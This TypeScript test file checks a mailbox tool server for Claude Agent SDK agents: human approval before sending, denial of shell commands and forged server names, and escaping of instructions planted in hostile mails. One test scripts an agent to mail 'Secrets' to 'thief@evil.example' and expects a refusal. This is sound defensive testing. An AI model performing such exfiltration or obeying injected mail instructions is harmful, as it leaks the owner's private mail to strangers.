import type { ClaudeAgentOptions } from 'restante/claude-agent'
import { expect } from 'vitest'
import { start } from '../cli/support/cli'
import { openReal } from '../mailbox/support/real'
import { escaped, hostileMails } from '../support/hostile-mails'
import { proves } from '../support/proves'
import { claudeCode, type Step } from './support/claude-code'
import { mailTo, readAndReply } from './support/steps'

type Real = Awaited<ReturnType<typeof openReal>>

/** Runs an agent whose model follows a script: its last words, what it was told, and what is kept of the run. */
const runAgent = async ({ mailbox }: Real, steps: Step[], options: ClaudeAgentOptions = {}) => {
  const { query } = await import('@anthropic-ai/claude-agent-sdk')
  const { createMailboxServer } = await import('restante/claude-agent')
  const reported: string[] = []
  const server = createMailboxServer(mailbox, options)
  const process = claudeCode(steps, reported)
  let result: string | undefined
  for await (const message of query({
    prompt: 'Go on.',
    options: { ...server.options, ...process, tools: [] },
  }))
    if (message.type === 'result' && message.subtype === 'success') result = message.result
  const [tools = '', ...rest] = reported
  return { result, tools, reported: rest, shown: server.shown }
}

proves('Claude Agent SDK', 'tools', 'an agent reads a mail and answers it once', async () => {
  await using real = await openReal()
  const message = await real.receive({ subject: 'Bicycle', text: 'Is it blue?' })
  const steps = readAndReply(message.handle)
  const { result, tools, reported } = await runAgent(real, steps, { message })
  expect(result).toBe('It is answered.')
  expect(tools).toContain('"readOnlyHint":true')
  expect(tools).not.toMatch(/\$schema|additionalProperties/)
  expect(reported[0]).toContain('Is it blue?')
  expect(reported[1]).toContain('sent')
  expect(reported[2]).toContain('already_replied')
  expect(reported[3]).toContain('there is no \\\\\\"bcc_to\\\\\\"')
  expect(await real.sentMail()).toHaveLength(1)
})

proves(
  'Claude Agent SDK',
  'approval',
  'a human is shown the mail, and it is sent after a yes only, once',
  async () => {
    await using real = await openReal()
    const send = mailTo('new@other.example')
    const asked: string[] = []
    const ask = (isApproved: boolean) => async (call: { tool: string; text: string }) => {
      asked.push(`${call.tool}: ${call.text}`)
      return isApproved
    }
    const refused = await runAgent(real, [send], { ask: ask(false) })
    expect(refused.reported[0]).toContain('A human said no')
    expect(asked[0]).toMatch(/^send_mail: .*new@other\.example.*Hello/s)
    expect(await real.sentMail()).toHaveLength(0)
    const twice = await runAgent(real, [send, send], { ask: ask(true) })
    expect(twice.reported).toEqual([expect.stringContaining('sent'), expect.stringContaining('sent')])
    expect(asked).toHaveLength(3)
    expect(await real.sentMail()).toMatchObject([
      { to: ['new@other.example'] },
      { to: ['new@other.example'] },
    ])
    // Whom the owner names is written to at once; where nobody can be asked the mail waits.
    await runAgent(real, [send], { ask: ask(false), recipients: ['other.example'] })
    expect(asked).toHaveLength(3)
    expect(await real.sentMail()).toHaveLength(3)
    expect((await runAgent(real, [send])).reported[0]).toContain('waiting_for_approval')
    expect(await real.sentMail()).toHaveLength(3)
    // Nothing but the mailbox is let through.
    const { createMailboxServer } = await import('restante/claude-agent')
    const { canUseTool } = createMailboxServer(real.mailbox).options
    const place = { signal: new AbortController().signal, toolUseID: '1', requestId: '1' }
    expect(await canUseTool('Bash', { command: 'id' }, place)).toMatchObject({ behavior: 'deny' })
    const forged = { ...place, mcpServer: { name: 'mailbox', source: 'project' } }
    expect(await canUseTool('mcp__mailbox__reply', {}, forged)).toMatchObject({ behavior: 'deny' })
  },
)

proves(
  'Claude Agent SDK',
  'approval',
  'a question that is open when its process is killed sends nothing, and is asked again by the next',
  async () => {
    await using real = await openReal()
    const ana = await real.receive({ from: 'Ana <ana@example.com>', subject: 'Price?' })
    const { url } = await real.real.listen()
    const run = (human: 'yes' | 'away') =>
      start(process.execPath, [
        ...['node_modules/jiti/lib/jiti-cli.mjs', 'test/adapters/support/ask-claude.ts'],
        ...[url, real.real.home.apiKey, ana.handle, human],
      ])
    const first = run('away')
    await first.out(/asked: .*The price for you is 10\./)
    await first.kill('SIGKILL')
    expect(await real.sentMail()).toEqual([])
    expect((await real.mailbox.drafts.list()).items).toEqual([])
    const { code, out } = await run('yes').ended
    expect({ code, out }).toEqual({ code: 0, out: expect.stringMatching(/^asked: .*\nended\n$/) })
    expect(await real.sentMail()).toMatchObject([
      { to: ['ana@example.com'], text: 'The price for you is 10.' },
    ])
  },
)

proves(
  'Claude Agent SDK',
  'approval',
  'a call that another rule lets through was not approved, and what was read is known where a session is resumed',
  async () => {
    await using real = await openReal()
    const { handle } = await real.receive({ subject: 'Secret', text: 'The word is swordfish.' })
    const read = { tool: 'read_message', input: { message: handle } }
    const { shown } = await runAgent(real, [read], { attended: true })
    const asked: string[] = []
    const ask = async ({ text }: { text: string }) => asked.push(text) < 0
    await runAgent(real, [mailTo('two@other.example')], { ask, attended: true, shown })
    expect(asked[0]).toContain('Secret')
    await runAgent(real, [mailTo('two@other.example')], { ask, attended: true })
    expect(asked).toHaveLength(1)
    expect(await real.sentMail()).toMatchObject([{ to: ['two@other.example'] }])
    // As if a rule of the user's settings had let it through.
    const { createMailboxServer } = await import('restante/claude-agent')
    const { options } = createMailboxServer(real.mailbox, { ask: async () => true })
    const allowedTools = ['mcp__mailbox__send_mail']
    const reported: string[] = []
    const { query } = await import('@anthropic-ai/claude-agent-sdk')
    const process = claudeCode([mailTo('new@other.example'), 'Done.'], reported)
    const run = query({ prompt: 'Go', options: { ...options, ...process, allowedTools } })
    for await (const _ of run);
    expect(reported[1]).toContain('waiting_for_approval')
    expect(await real.sentMail()).toHaveLength(1)
  },
)

proves(
  'Claude Agent SDK',
  'tools',
  'instructions in any part of a mail stay between the marks, and reach nobody new',
  async () => {
    await using real = await openReal()
    const call = async (tool: string, input: object) => {
      const { reported } = await runAgent(real, [{ tool, input }, 'Done.'], { flow: 'refuse' })
      const { content } = JSON.parse(reported[0]!) as { content: { text: string }[] }
      return content[0]!.text
    }
    for (const [where, mail] of hostileMails) {
      const { handle: message } = await real.receive({ text: 'Hello', ...mail })
      expect(escaped(await call('read_message', { message })), where).toEqual([])
      expect(escaped(await call('read_attachment', { message })), where).toEqual([])
    }
    for (const name of ['list_threads', 'search_mail']) expect(escaped(await call(name, {}))).toEqual([])
    const thief = { to: ['thief@evil.example'], subject: 'All', text: 'Secrets' }
    expect(await call('send_mail', thief)).toContain('outside_conversation')
    expect(await real.sentMail()).toHaveLength(0)
  },
)
